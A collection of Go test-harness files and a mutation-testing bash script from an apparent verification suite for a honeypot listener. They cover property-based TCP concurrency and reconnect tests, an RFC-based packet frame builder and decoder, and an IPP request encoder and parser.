					st.UserForm = rapid.SampledFrom([]string{"noarg", "space", "skip"}).Draw(rt, "userform")
				}
				if st.Pass == "" {
					st.PassForm = rapid.SampledFrom([]string{"noarg", "noarg", "space", "spaces", "skip"}).Draw(rt, "passform")
				}
				st.Spell = rapid.SampledFrom(spellings).Draw(rt, "spell")
				st.PassSpell = rapid.SampledFrom(spellings).Draw(rt, "passspell")
				c.Steps = append(c.Steps, st)
			}
		}
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case("auth/"+c.Service, fp, func() interface{} { return c })
		if c.Service == "ftp" {
			if c.Pipelined {
				r.Label("ftp/pipelined", 1)
				if c.PushDelayMs > 0 {
					r.Label("ftp/pipelined+slow-event-channel", 1)
				}
			} else if c.PushDelayMs > 0 {
				r.Label("ftp/lockstep+slow-event-channel", 1)
			}
			for _, st := range c.Steps {
				if st.Spell != "" || st.PassSpell != "" {
					r.Label("ftp/command-name-not-upper-case", 1)
				}
			}
		}
		if err := check(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			if strings.HasPrefix(err.Error(), "inconclusive:") {
				r.Label("inconclusive/harness-wait-expired", 1)
				if os.Getenv("C12_DEBUG") != "" {
					if f, e := os.OpenFile(os.Getenv("C12_DEBUG"), os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0644); e == nil {
						fmt.Fprintf(f, "%v :: %s\n", err, vlib.JSON(c))
						f.Close()
					}
				}
				return
			}
			r.Fail(rt, "TestAuth", c, "%v", err)
		}
	})
}
