//go:build verif && linux
// +build verif,linux

package c14

// Several senders at once: connections whose port handlers answer (HTTP decoders write a
// response and close, the others close) are pushed back to back while further segments of
// other connections are injected without any barrier, so handler goroutines and the
// injecting goroutine (in the place of the receive loop) are inside send() together.
// Afterwards the whole transmit ring is drained and EVERY record must be a whole
// Ethernet/IPv4/TCP frame with valid checksums, addressed to one of the connections, with
// an acknowledgement number that was exact at some moment; every injected data segment
// must have got its own acknowledgement. The scenario is repeated for a number of rounds
// on fresh listeners (it is a race); a failure counts when the same scenario fails again
// on a re-run, otherwise it is recorded as flaky_schedule. Also: reconnects on a 4-tuple
// after a completed connection, as a fixed list.

import (
	"encoding/hex"
	"fmt"
	"os"
	"strconv"
	"testing"

	"pgregory.net/rapid"

	cl "verif/canarylab"
	"verif/vlib"
)

type sendersCase struct {
	Pushers    []connSpec `json:"pushers"`    // one pushed segment each: the first flight
	Background []connSpec `json:"background"` // one-byte unpushed segments during the burst
	BurstSegs  int        `json:"burst_segs"` // background segments per connection inside the burst
	Order      []int      `json:"order"`      // interleaving of the burst (index into pushers ++ background)
	Rounds     int        `json:"rounds"`
}

func childProcs() string {
	n, _ := strconv.Atoi(os.Getenv("GOMAXPROCS"))
	if n < 4 {
		n = 4
	}
	return fmt.Sprintf("GOMAXPROCS=%d", n)
}

// sendersRound plays one round on a fresh canary of ch.
func sendersRound(l cl.Local, ch *cl.Child, sc sendersCase) error {
	k, err := ch.New(canaryConfig(l))
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer k.Close()
	r := &runner{l: l, k: k}
	all := scenario{Conns: append(append([]connSpec(nil), sc.Pushers...), sc.Background...)}
	if err := r.build(all); err != nil {
		return err
	}
	// handshakes, with barriers: every handler is parked in its first read
	for _, c := range r.conns {
		for i := 0; i < 2; i++ {
			if err := r.stepConn(c); err != nil {
				return err
			}
		}
	}
	// the burst
	budget := make([]int, len(r.conns))
	for i := range r.conns {
		if i < len(sc.Pushers) {
			budget[i] = 1
		} else {
			budget[i] = sc.BurstSegs
		}
	}
	type want struct {
		c   *connRun
		ack uint32
	}
	var frames [][]byte
	var wants []want
	emit := func(i int) {
		c := r.conns[i]
		if budget[i] == 0 || c.next >= len(c.steps) || c.steps[c.next].kind != stData {
			return
		}
		budget[i]--
		st := c.steps[c.next]
		c.next++
		f, what := r.frameOf(c, st)
		c.acks[c.expectedAck()] = true
		c.sent += c.spec.Segs[st.seg].Len
		c.acks[c.expectedAck()] = true
		frames = append(frames, f)
		wants = append(wants, want{c, c.expectedAck()})
		r.logf("-> %s %s (burst)", c.key(), what)
	}
	for _, i := range sc.Order {
		if i >= 0 && i < len(r.conns) {
			emit(i)
		}
	}
	for more := true; more; {
		more = false
		for i := range r.conns {
			if budget[i] > 0 {
				before := len(frames)
				emit(i)
				if len(frames) > before {
					more = true
				} else {
					budget[i] = 0
				}
			}
		}
	}
	tx, panics, err := k.InjectBurst(frames)
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	for _, p := range panics {
		r.logf("!! handleTCP panicked under InjectFrame on burst frame %d: %s @ %s", p.Index, p.Msg, p.Where)
	}
	r.async = true // frames of the handlers carry the acknowledgement that was exact when they were sent
	if _, err := r.absorb(nil, 0, tx); err != nil {
		return err
	}
	got := map[string]bool{}
	for _, raw := range tx {
		if f, err := cl.DecodeTCPFrame(raw); err == nil {
			if c := r.owner(f); c != nil && f.Flags&cl.ACK != 0 {
				got[fmt.Sprintf("%s/%d", c.key(), f.Ack)] = true
			}
		}
	}
	for _, w := range wants {
		if !got[fmt.Sprintf("%s/%d", w.c.key(), w.ack)] {
			return r.fail("connection %s: of %d segments injected while %d port handlers were answering, the one ending at acknowledgement %d got no acknowledgement (%d frames in the transmit ring)", w.c.key(), len(frames), len(sc.Pushers), w.ack, len(tx))
		}
	}
	// the rest of every connection, with barriers again
	r.async = false
	for more := true; more; {
		more = false
		for _, c := range r.conns {
			if c.eligible() {
				more = true
				if err := r.stepConn(c); err != nil {
					return err
				}
			}
		}
	}
	return r.finish()
}

func runSenders(l cl.Local, sc sendersCase) error {
	ch, err := cl.StartChild(childProcs())
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer ch.Kill()
	for i := 0; i < sc.Rounds; i++ {
		if err := sendersRound(l, ch, sc); err != nil {
			if isInfra(err) && ch.Dead() {
				return fmt.Errorf("the canary process died in round %d: %s", i, ch.Death())
			}
			if isInfra(err) {
				return err
			}
			return fmt.Errorf("round %d of %d: %v", i, sc.Rounds, err)
		}
	}
	return nil
}

func checkSenders(r *vlib.Run, l cl.Local, sc sendersCase) (verdict error, infra error) {
	e1 := runSenders(l, sc)
	if e1 == nil {
		return nil, nil
	}
	if isInfra(e1) {
		return nil, e1
	}
	e2 := runSenders(l, sc)
	if e2 == nil {
		r.Flaky(fmt.Sprintf("simultaneous-senders scenario failed once, passed on re-run: %v", e1))
		return nil, nil
	}
	if isInfra(e2) {
		return nil, e2
	}
	return fmt.Errorf("%v [the re-run of the same scenario failed too: %s]", e2, firstPart(e1)), nil
}

func firstPart(err error) string {
	s := err.Error()
	for i := 0; i+4 <= len(s); i++ {
		if s[i:i+4] == " || " {
			return s[:i]
		}
	}
	return s
}

func genSenders(rt *rapid.T, rounds int) sendersCase {
	sc := sendersCase{Rounds: rounds}
	np := rapid.IntRange(2, 8).Draw(rt, "pushers")
	nb := rapid.IntRange(1, 3).Draw(rt, "background")
	sc.BurstSegs = rapid.IntRange(8, 40).Draw(rt, "burst-segments")
	for i := 0; i < np; i++ {
		c := connSpec{Client: i % len(clients), Sport: uint16(41000 + i), ISN: rapid.SampledFrom(append(isnValues, 0xfffffff0, 12345)).Draw(rt, "isn"), AckServerFin: rapid.Bool().Draw(rt, "ack-server-fin")}
		c.Dport = rapid.SampledFrom([]uint16{80, 9200, 80, 9200, 23, 6379, 8080, 443}).Draw(rt, "dport")
		var stream []byte
		switch c.Dport {
		case 8080:
			stream = filler(rt, rapid.IntRange(1, 300).Draw(rt, "n"), "stream")
		default:
			stream = conformant(rt, c.Dport, rapid.IntRange(20, 400).Draw(rt, "n"))
		}
		c.Stream = hex.EncodeToString(stream)
		c.Segs = []segSpec{{Len: len(stream), PSH: true}}
		sc.Pushers = append(sc.Pushers, c)
	}
	for i := 0; i < nb; i++ {
		n := sc.BurstSegs + 2
		c := connSpec{Client: (i + 1) % len(clients), Sport: uint16(42000 + i), Dport: rapid.SampledFrom([]uint16{8080, 1000, 23}).Draw(rt, "bg-dport"), ISN: rapid.SampledFrom(isnValues).Draw(rt, "bg-isn"), AckServerFin: true}
		c.Stream = hex.EncodeToString(filler(rt, n, "bg"))
		for j := 0; j < n; j++ {
			c.Segs = append(c.Segs, segSpec{Len: 1, PSH: j == n-1})
		}
		sc.Background = append(sc.Background, c)
	}
	sc.Order = rapid.SliceOfN(rapid.IntRange(0, np+nb-1), 0, np+nb*sc.BurstSegs).Draw(rt, "order")
	return sc
}

func TestSenders(t *testing.T) {
	r := vlib.Open(prop)
	l := env(t)
	var sc sendersCase
	if vlib.ReplayCase("TestSenders", &sc) {
		verr, infra := checkSenders(r, l, sc)
		if infra != nil {
			t.Fatalf("%v", infra)
		}
		if verr != nil {
			r.Violation(t, "TestSenders", sc, verr.Error())
		}
		return
	}
	r.Rule(ruleText)
	r.Rule("simultaneous senders: 2..8 connections (HTTP decoders that answer, other decoders and undecoded ports that close) get their pushed first flight back to back with 8..40 one-byte segments of 1..3 other connections, without barriers, child with GOMAXPROCS >= 4, repeated for 12 (quick) / 30 (thorough) rounds per scenario; every record of the transmit ring is decoded strictly and every injected segment must have its acknowledgement; non-trivial = >= 2 answering connections in the burst")
	box := &cl.Infra{}
	r.Rapid(t, "TestSenders", r.Pick(10, 120), func(rt *rapid.T) {
		if box.Err() != nil {
			rapid.Bool().Draw(rt, "skipped-after-infra-error")
			return
		}
		sc := genSenders(rt, r.Pick(12, 30))
		r.Case(fmt.Sprintf("senders/pushers=%d/background=%d", len(sc.Pushers), len(sc.Background)), vlib.JSON(sc), func() interface{} { return sc })
		verr, infra := checkSenders(r, l, sc)
		if infra != nil {
			box.Set(infra)
			return
		}
		if verr != nil {
			r.Fail(rt, "TestSenders", sc, "%v", verr)
		}
	})
	if e := box.Err(); e != nil {
		t.Fatalf("infra: %v", e)
	}
}

// TestReconnect: fixed histories - a completed connection (listener closes first, client
// acknowledges and closes), then new connections on the identical 4-tuple and on tuples
// that differ in one field, with unrelated connections in between.
func TestReconnect(t *testing.T) {
	r := vlib.Open(prop)
	l := env(t)
	h := &host{}
	defer h.close()
	var sc scenario
	if vlib.ReplayCase("TestReconnect", &sc) {
		verr, infra := check(r, l, h, sc)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if verr != nil {
			r.Violation(t, "TestReconnect", sc, verr.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	r.Rule(ruleText)
	mk := func(client int, sport, dport uint16, isn uint32, data string, ackFin bool, after int) connSpec {
		c := connSpec{Client: client, Sport: sport, Dport: dport, ISN: isn, Stream: hex.EncodeToString([]byte(data)), AckServerFin: ackFin, After: after}
		c.Segs = []segSpec{{Len: len(data), PSH: true}}
		return c
	}
	get := "GET /index.html HTTP/1.1\r\nHost: sensor\r\n\r\n"
	reported := 0
	for _, dport := range []uint16{8080, 80, 6379, 23} {
		for _, ackFin := range []bool{true, false} {
			for _, isns := range [][]uint32{{0x90000000, 0x90000000, 5}, {1<<32 - 1, 0, 1 << 31}, {7, 1<<32 - 2, 7}} {
				data := "first flight"
				if dport == 80 {
					data = get
				}
				sc := scenario{Conns: []connSpec{
					mk(0, 41000, dport, isns[0], data, ackFin, 0),
					mk(1, 41000, dport, 11, data, true, 0),            // unrelated: other peer
					mk(0, 41000, dport, isns[1], data+"2", ackFin, 1), // same tuple again
					mk(0, 41001, dport, 13, data, true, 1),            // differs in the source port
					mk(0, 41000, dport+1, 17, "near tuple", true, 1),  // differs in the destination port
					mk(0, 41000, dport, isns[2], data+"3", ackFin, 3), // and a third time
				}}
				r.Case(fmt.Sprintf("reconnect/dport=%d", dport), vlib.JSON(sc), func() interface{} { return sc })
				verr, infra := check(r, l, h, sc)
				if infra != nil {
					t.Fatalf("infra: %v", infra)
				}
				if verr != nil && reported < 3 {
					reported++
					r.Violation(t, "TestReconnect", sc, verr.Error())
				}
			}
		}
	}
}
