// Package canarylab is the shared harness of the raw-listener checks (C02, C14, C20):
// an independent frame builder / decoder / checksum verifier written from the RFCs
// (791, 792, 793, 768, 826, 1071) - it does not use honeytrap's packet packages - and a
// child process that hosts hooked canaries (see child.go).
package canarylab

import (
	"encoding/binary"
	"errors"
	"fmt"
)

type MAC [6]byte
type IP4 [4]byte

func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}
func (a IP4) String() string { return fmt.Sprintf("%d.%d.%d.%d", a[0], a[1], a[2], a[3]) }

const (
	EtherIPv4 = 0x0800
	EtherARP  = 0x0806
	EtherIPv6 = 0x86dd

	ProtoICMP = 1
	ProtoIGMP = 2
	ProtoTCP  = 6
	ProtoUDP  = 17

	FIN = 0x01
	SYN = 0x02
	RST = 0x04
	PSH = 0x08
	ACK = 0x10
	URG = 0x20
)

// Sum1071 is the Internet checksum (RFC 1071): one's complement of the one's
// complement sum of the 16-bit big-endian words, odd trailing byte padded with zero.
func Sum1071(parts ...[]byte) uint16 {
	var sum uint64
	for _, b := range parts {
		// every part except possibly the last must have even length
		i := 0
		for ; i+1 < len(b); i += 2 {
			sum += uint64(b[i])<<8 | uint64(b[i+1])
		}
		if i < len(b) {
			sum += uint64(b[i]) << 8
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

func pseudo(src, dst IP4, proto byte, l4len int) []byte {
	p := make([]byte, 12)
	copy(p[0:4], src[:])
	copy(p[4:8], dst[:])
	p[9] = proto
	binary.BigEndian.PutUint16(p[10:12], uint16(l4len))
	return p
}

// Eth prepends an Ethernet II header.
func Eth(dst, src MAC, etype uint16, payload []byte) []byte {
	f := make([]byte, 14+len(payload))
	copy(f[0:6], dst[:])
	copy(f[6:12], src[:])
	binary.BigEndian.PutUint16(f[12:14], etype)
	copy(f[14:], payload)
	return f
}

// IPv4Fields describes an IPv4 header; negative IHL / TotalLen mean "consistent value".
type IPv4Fields struct {
	Version  int // 0 => 4
	IHL      int // in 32-bit words; <0 => 5 + len(Options)/4
	TotalLen int // <0 => actual
	ID       uint16
	FlagsOff uint16
	TTL      byte
	Proto    byte
	Src, Dst IP4
	Options  []byte
	BadSum   bool
}

// IPv4 builds header + payload. Inconsistent IHL / TotalLen values are written as given
// (the bytes that follow are still options + payload).
func IPv4(h IPv4Fields, payload []byte) []byte {
	hl := 20 + len(h.Options)
	b := make([]byte, hl+len(payload))
	ver := h.Version
	if ver == 0 {
		ver = 4
	}
	ihl := h.IHL
	if ihl < 0 {
		ihl = hl / 4
	}
	b[0] = byte(ver<<4 | ihl&0x0f)
	tl := h.TotalLen
	if tl < 0 {
		tl = len(b)
	}
	binary.BigEndian.PutUint16(b[2:4], uint16(tl))
	binary.BigEndian.PutUint16(b[4:6], h.ID)
	binary.BigEndian.PutUint16(b[6:8], h.FlagsOff)
	ttl := h.TTL
	if ttl == 0 {
		ttl = 64
	}
	b[8] = ttl
	b[9] = h.Proto
	copy(b[12:16], h.Src[:])
	copy(b[16:20], h.Dst[:])
	copy(b[20:], h.Options)
	copy(b[hl:], payload)
	end := ihl * 4
	if end < 20 || end > len(b) {
		end = hl
	}
	cs := Sum1071(b[:end])
	if h.BadSum {
		cs ^= 0x5555
	}
	binary.BigEndian.PutUint16(b[10:12], cs)
	return b
}

// TCPFields describes a TCP segment. DataOff < 0 => 5 + len(Options)/4 (options are
// padded to a multiple of 4 with zero bytes in that case).
type TCPFields struct {
	Sport, Dport uint16
	Seq, Ack     uint32
	DataOff      int
	Flags        byte
	Window       uint16
	Urgent       uint16
	Options      []byte
	Payload      []byte
	BadSum       bool
}

func TCP(src, dst IP4, f TCPFields) []byte {
	opts := f.Options
	if f.DataOff < 0 {
		for len(opts)%4 != 0 {
			opts = append(append([]byte(nil), opts...), 0)
		}
	}
	b := make([]byte, 20+len(opts)+len(f.Payload))
	binary.BigEndian.PutUint16(b[0:2], f.Sport)
	binary.BigEndian.PutUint16(b[2:4], f.Dport)
	binary.BigEndian.PutUint32(b[4:8], f.Seq)
	binary.BigEndian.PutUint32(b[8:12], f.Ack)
	do := f.DataOff
	if do < 0 {
		do = (20 + len(opts)) / 4
	}
	b[12] = byte(do << 4)
	b[13] = f.Flags
	w := f.Window
	if w == 0 {
		w = 29200
	}
	binary.BigEndian.PutUint16(b[14:16], w)
	binary.BigEndian.PutUint16(b[18:20], f.Urgent)
	copy(b[20:], opts)
	copy(b[20+len(opts):], f.Payload)
	cs := Sum1071(pseudo(src, dst, ProtoTCP, len(b)), b)
	if f.BadSum {
		cs ^= 0x1234
	}
	binary.BigEndian.PutUint16(b[16:18], cs)
	return b
}

// UDP builds a datagram; length < 0 => consistent length field.
func UDP(src, dst IP4, sport, dport uint16, length int, payload []byte) []byte {
	b := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(b[0:2], sport)
	binary.BigEndian.PutUint16(b[2:4], dport)
	l := length
	if l < 0 {
		l = len(b)
	}
	binary.BigEndian.PutUint16(b[4:6], uint16(l))
	copy(b[8:], payload)
	cs := Sum1071(pseudo(src, dst, ProtoUDP, len(b)), b)
	if cs == 0 {
		cs = 0xffff
	}
	binary.BigEndian.PutUint16(b[6:8], cs)
	return b
}

// ICMPEcho builds an echo request.
func ICMPEcho(id, seq uint16, payload []byte) []byte {
	b := make([]byte, 8+len(payload))
	b[0] = 8
	binary.BigEndian.PutUint16(b[4:6], id)
	binary.BigEndian.PutUint16(b[6:8], seq)
	copy(b[8:], payload)
	binary.BigEndian.PutUint16(b[2:4], Sum1071(b))
	return b
}

// ARP builds an Ethernet/IPv4 ARP packet (RFC 826) with the given opcode.
func ARP(op uint16, sha MAC, spa IP4, tha MAC, tpa IP4) []byte {
	b := make([]byte, 28)
	binary.BigEndian.PutUint16(b[0:2], 1)
	binary.BigEndian.PutUint16(b[2:4], EtherIPv4)
	b[4] = 6
	b[5] = 4
	binary.BigEndian.PutUint16(b[6:8], op)
	copy(b[8:14], sha[:])
	copy(b[14:18], spa[:])
	copy(b[18:24], tha[:])
	copy(b[24:28], tpa[:])
	return b
}

// ---------------------------------------------------------------------------------
// independent decoder for frames the listener emits

// TCPFrame is a decoded Ethernet/IPv4/TCP frame with the verification results.
type TCPFrame struct {
	DstMAC, SrcMAC MAC
	SrcIP, DstIP   IP4
	IHL            int
	TotalLen       int
	ID             uint16 // IPv4 identification
	TTL            byte
	Sport, Dport   uint16
	Seq, Ack       uint32
	DataOff        int
	Flags          byte
	Window         uint16
	Payload        []byte
	IPSumOK        bool
	TCPSumOK       bool
}

func (f *TCPFrame) String() string {
	s := fmt.Sprintf("%s:%d>%s:%d(%s) flags=%#02x seq=%d ack=%d len=%d",
		f.SrcIP, f.Sport, f.DstIP, f.Dport, f.DstMAC, f.Flags, f.Seq, f.Ack, len(f.Payload))
	if !f.IPSumOK {
		s += " BAD-IP-CHECKSUM"
	}
	if !f.TCPSumOK {
		s += " BAD-TCP-CHECKSUM"
	}
	return s
}

// DecodeTCPFrame decodes a frame that must be a well-formed Ethernet II / IPv4 / TCP
// frame; any structural inconsistency is an error (the listener is required to emit
// well-formed frames). Checksums are verified per RFC 791 / RFC 793 and reported.
func DecodeTCPFrame(b []byte) (*TCPFrame, error) {
	if len(b) < 14+20+20 {
		return nil, fmt.Errorf("frame of %d bytes is shorter than ethernet+ipv4+tcp headers", len(b))
	}
	f := &TCPFrame{}
	copy(f.DstMAC[:], b[0:6])
	copy(f.SrcMAC[:], b[6:12])
	if et := binary.BigEndian.Uint16(b[12:14]); et != EtherIPv4 {
		return nil, fmt.Errorf("ethertype %#04x, want 0x0800", et)
	}
	ip := b[14:]
	if ip[0]>>4 != 4 {
		return nil, fmt.Errorf("ip version %d", ip[0]>>4)
	}
	f.IHL = int(ip[0]&0x0f) * 4
	if f.IHL < 20 || f.IHL > len(ip) {
		return nil, fmt.Errorf("ip header length %d out of range", f.IHL)
	}
	f.TotalLen = int(binary.BigEndian.Uint16(ip[2:4]))
	if f.TotalLen != len(ip) {
		return nil, fmt.Errorf("ip total length %d but %d bytes follow the ethernet header", f.TotalLen, len(ip))
	}
	if ip[9] != ProtoTCP {
		return nil, fmt.Errorf("ip protocol %d, want 6", ip[9])
	}
	f.ID = binary.BigEndian.Uint16(ip[4:6])
	f.TTL = ip[8]
	copy(f.SrcIP[:], ip[12:16])
	copy(f.DstIP[:], ip[16:20])
	f.IPSumOK = Sum1071(ip[:f.IHL]) == 0
	t := ip[f.IHL:]
	if len(t) < 20 {
		return nil, errors.New("tcp header truncated")
	}
	f.Sport = binary.BigEndian.Uint16(t[0:2])
	f.Dport = binary.BigEndian.Uint16(t[2:4])
	f.Seq = binary.BigEndian.Uint32(t[4:8])
	f.Ack = binary.BigEndian.Uint32(t[8:12])
	f.DataOff = int(t[12]>>4) * 4
	if f.DataOff < 20 || f.DataOff > len(t) {
		return nil, fmt.Errorf("tcp data offset %d out of range (segment %d bytes)", f.DataOff, len(t))
	}
	f.Flags = t[13] & 0x3f
	f.Window = binary.BigEndian.Uint16(t[14:16])
	f.Payload = append([]byte(nil), t[f.DataOff:]...)
	f.TCPSumOK = Sum1071(pseudo(f.SrcIP, f.DstIP, ProtoTCP, len(t)), t) == 0
	return f, nil
}

// ---------------------------------------------------------------------------------
// link-layer framing

// EthMinFrame is the minimum length of an Ethernet frame as a receiver sees it (64
// bytes on the wire less the frame check sequence): stations pad shorter frames
// behind the payload.
const EthMinFrame = 60

// Trailer returns the frame followed by link-layer trailer bytes, which are not part of
// the IP datagram (its total length field stays as it is): n > 0 appends n bytes
// (fill, fill+1, ...), n < 0 pads the frame with zero bytes to the Ethernet minimum of
// 60 bytes as the sending station does (frames of 60 bytes or more are returned
// unchanged), n == 0 returns the frame as it is.
func Trailer(frame []byte, n int, fill byte) []byte {
	if n < 0 {
		if len(frame) >= EthMinFrame {
			return frame
		}
		out := make([]byte, EthMinFrame)
		copy(out, frame)
		return out
	}
	if n == 0 {
		return frame
	}
	out := make([]byte, len(frame)+n)
	copy(out, frame)
	for i := 0; i < n; i++ {
		out[len(frame)+i] = fill + byte(i)
	}
	return out
}
