#!/bin/bash
# mutcheck.sh <PROP> <file-relative-to-repo> <python-expr old> <new>   -- apply a textual mutation in a scratch worktree and run the quick check against it
# usage: mutcheck.sh C10 services/limiter.go 'OLD TEXT' 'NEW TEXT'
set -e
PROP=$1; FILE=$2; OLD=$3; NEW=$4
ID=$$
WT=/tmp/wt-mut-$ID; VC=/tmp/verif-mut-$ID
git -C /repo worktree add -q --detach $WT HEAD
python3 - "$WT/$FILE" "$OLD" "$NEW" <<'PY'
import sys
p,old,new=sys.argv[1:4]
s=open(p).read()
assert old in s, "pattern not found"
open(p,'w').write(s.replace(old,new,1))
PY
(cd $WT && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go build ./... ) || { echo "MUTANT DOES NOT COMPILE"; git -C /repo worktree remove --force $WT; exit 3; }
mkdir -p $VC && rsync -a --exclude .git --exclude .build --exclude replays /verif/ $VC/
sed -i "s#=> /repo#=> $WT#" $VC/go.mod
sed -i "s#const Root = \"/verif\"#const Root = \"$VC\"#" $VC/vlib/vlib.go
set +e
(cd $VC && timeout 1500 ./run $PROP --tier quick 2>&1 | grep "VIOLATION\|detail\|INFRA\|quick:" | sort | uniq | cut -c1-300 | head -8)
git -C /repo worktree remove --force $WT
rm -rf $VC
