package c17

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

// ---------------------------------------------------------------- harness-side RFC 8010 encoder / parser

type ippAttr struct {
	Tag    byte     `json:"tag"`
	Name   string   `json:"name"`
	Values []string `json:"values_hex"` // raw value bytes per value
}

type ippGroup struct {
	Tag   byte      `json:"tag"`
	Attrs []ippAttr `json:"attrs"`
}

// ippCase.Order is the order in which the operation group's attributes are written: a permutation of the
// indices of [charset, language, Pre..., printer-uri, user, job-name, document-format]; empty = that
// (canonical) order.
type ippCase struct {
	Major, Minor byte       `json:"-"`
	Version      [2]byte    `json:"version"`
	Op           uint16     `json:"op"`
	ReqID        uint32     `json:"request_id"`
	Charset      string     `json:"charset"`
	Lang         string     `json:"lang"`
	Pre          []ippAttr  `json:"generated_op_attrs"` // generated attributes placed before the checked fields
	URI          string     `json:"printer_uri_hex"`
	User         string     `json:"user_hex"`
	JobName      string     `json:"job_name_hex"`
	Format       string     `json:"format"`
	Order        []int      `json:"op_attr_order,omitempty"`
	Groups       []ippGroup `json:"further_groups"`
	Doc          string     `json:"document_hex"`
	DocLen       int        `json:"document_len"`
}

func putAttr(b *bytes.Buffer, a ippAttr) {
	for i, v := range a.Values {
		val := vlib.UnHex(v)
		b.WriteByte(a.Tag)
		if i == 0 {
			binary.Write(b, binary.BigEndian, uint16(len(a.Name)))
			b.WriteString(a.Name)
		} else {
			binary.Write(b, binary.BigEndian, uint16(0))
		}
		binary.Write(b, binary.BigEndian, uint16(len(val)))
		b.Write(val)
	}
}

func strAttr(tag byte, name, val string) ippAttr {
	return ippAttr{Tag: tag, Name: name, Values: []string{vlib.Hex([]byte(val))}}
}

func (c ippCase) doc() []byte {
	if c.Doc != "" {
		return vlib.UnHex(c.Doc)
	}
	d := make([]byte, c.DocLen)
	for i := range d {
		d[i] = byte(i*7 + i/251)
	}
	return d
}

func (c ippCase) encode() []byte {
	var b bytes.Buffer
	b.Write(c.Version[:])
	binary.Write(&b, binary.BigEndian, c.Op)
	binary.Write(&b, binary.BigEndian, c.ReqID)
	b.WriteByte(0x01)
	items := c.opAttrs()
	for _, i := range c.opOrder() {
		putAttr(&b, items[i])
	}
	for _, g := range c.Groups {
		b.WriteByte(g.Tag)
		for _, a := range g.Attrs {
			putAttr(&b, a)
		}
	}
	b.WriteByte(0x03)
	b.Write(c.doc())
	return b.Bytes()
}

// opAttrs lists the operation group's attributes in canonical order (charset, language, generated
// attributes, then the four fields a print job is checked for).
func (c ippCase) opAttrs() []ippAttr {
	items := []ippAttr{
		strAttr(0x47, "attributes-charset", c.Charset),
		strAttr(0x48, "attributes-natural-language", c.Lang),
	}
	items = append(items, c.Pre...)
	return append(items,
		strAttr(0x45, "printer-uri", string(vlib.UnHex(c.URI))),
		strAttr(0x42, "requesting-user-name", string(vlib.UnHex(c.User))),
		strAttr(0x42, "job-name", string(vlib.UnHex(c.JobName))),
		strAttr(0x49, "document-format", c.Format))
}

// opOrder returns the order the operation attributes are written in: c.Order when it is a permutation
// of all of them, else the canonical order (so a shrunk / hand-edited replay always encodes every
// attribute exactly once).
func (c ippCase) opOrder() []int {
	n := len(c.Pre) + 6
	id := make([]int, n)
	for i := range id {
		id[i] = i
	}
	if len(c.Order) != n {
		return id
	}
	seen := make([]bool, n)
	for _, i := range c.Order {
		if i < 0 || i >= n || seen[i] {
			return id
		}
		seen[i] = true
	}
	return c.Order
}

// orderClass names where charset / language sit in the operation group (coverage label only).
func (c ippCase) orderClass() string {
	o := c.opOrder()
	canonical := true
	for i, v := range o {
		if v != i {
			canonical = false
		}
	}
	switch {
	case canonical:
		return "canonical"
	case o[0]+o[1] == 1: // charset and language still lead, the rest is rearranged
		return "charset+language-first"
	default:
		return "charset/language-displaced"
	}
}

type parsedIPP struct {
	version [2]byte
	status  uint16
	reqID   uint32
	groups  []ippGroup
	rest    []byte
}

// parseIPP is an independent RFC 8010 parser for the reply.
func parseIPP(b []byte) (*parsedIPP, error) {
	if len(b) < 9 {
		return nil, fmt.Errorf("reply shorter than an IPP header (%d bytes)", len(b))
	}
	p := &parsedIPP{version: [2]byte{b[0], b[1]}, status: binary.BigEndian.Uint16(b[2:]), reqID: binary.BigEndian.Uint32(b[4:])}
	i := 8
	var cur *ippGroup
	for {
		if i >= len(b) {
			return nil, fmt.Errorf("reply has no end-of-attributes tag")
		}
		tag := b[i]
		i++
		if tag == 0x03 {
			break
		}
		if tag <= 0x0f {
			p.groups = append(p.groups, ippGroup{Tag: tag})
			cur = &p.groups[len(p.groups)-1]
			continue
		}
		if cur == nil {
			return nil, fmt.Errorf("attribute before any group tag")
		}
		if i+2 > len(b) {
			return nil, fmt.Errorf("truncated name length")
		}
		nl := int(binary.BigEndian.Uint16(b[i:]))
		i += 2
		if i+nl+2 > len(b) {
			return nil, fmt.Errorf("truncated name")
		}
		name := string(b[i : i+nl])
		i += nl
		vl := int(binary.BigEndian.Uint16(b[i:]))
		i += 2
		if i+vl > len(b) {
			return nil, fmt.Errorf("truncated value")
		}
		val := b[i : i+vl]
		i += vl
		if nl == 0 && len(cur.Attrs) > 0 {
			a := &cur.Attrs[len(cur.Attrs)-1]
			a.Values = append(a.Values, vlib.Hex(val))
		} else {
			cur.Attrs = append(cur.Attrs, ippAttr{Tag: tag, Name: name, Values: []string{vlib.Hex(val)}})
		}
	}
	p.rest = b[i:]
	return p, nil
}

// ---------------------------------------------------------------- the ipp service behind the real server

var (
	ippOnce sync.Once
	ippSrv  *lab.Server
	ippCap  *lab.Capture
	ippErr  error
	ippPort int32
	ippMu   sync.Mutex
)

func ippServer() (*lab.Server, *lab.Capture, error) {
	ippOnce.Do(func() {
		ippSrv, ippCap, ippErr = lab.StartWithCapture("[service.ipp]\ntype=\"ipp\"\n\n[[port]]\nport=\"tcp/631\"\nservices=[\"ipp\"]\n", false)
	})
	return ippSrv, ippCap, ippErr
}

func checkIPP(c ippCase, cutAt int) error {
	srv, cap, err := ippServer()
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	ippMu.Lock()
	ippPort++
	sport := 20000 + int(ippPort%40000)
	sip := net.IPv4(10, 17, byte(ippPort>>16), byte(ippPort>>8))
	ippMu.Unlock()
	body := c.encode()
